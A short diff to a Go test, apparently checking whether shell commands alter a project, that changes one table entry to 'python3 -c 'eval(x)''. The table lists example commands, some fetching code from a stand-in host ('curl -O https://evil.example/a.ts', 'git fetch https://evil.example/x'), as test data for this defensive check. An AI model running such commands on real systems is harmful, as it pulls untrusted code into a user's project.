@@ -86,7 +86,7 @@ func TestProjectOfTaintedSession(t *testing.T) {
 func TestProjectIsAltered(t *testing.T) {
 	for command, changed := range map[string]bool{
 		"git apply /tmp/p.diff": true, "git am p": true, "gh pr checkout 3": true, "frob": true, "docker run -v .:/w img": true, "git fetch https://evil.example/x": true,
-		"curl -O https://evil.example/a.ts": true, "python3 -c 'open(\"x\",\"w\")'": true, "patch -p1 < p": true, "cp /tmp/x src/": true, "tar xf x.tar": true,
+		"curl -O https://evil.example/a.ts": true, "python3 -c 'eval(x)'": true, "patch -p1 < p": true, "cp /tmp/x src/": true, "tar xf x.tar": true,
 		"git checkout -b x": false, "git add -A": false, "git commit -m x": false, "git stash": false, "git push": false, "docker ps": false, "docker run img": false, "npm test": false, "ls": false,
 		"gh pr list": false, "curl -s https://api.github.com/zen": false, "echo x > /tmp/y": false,
 	} {
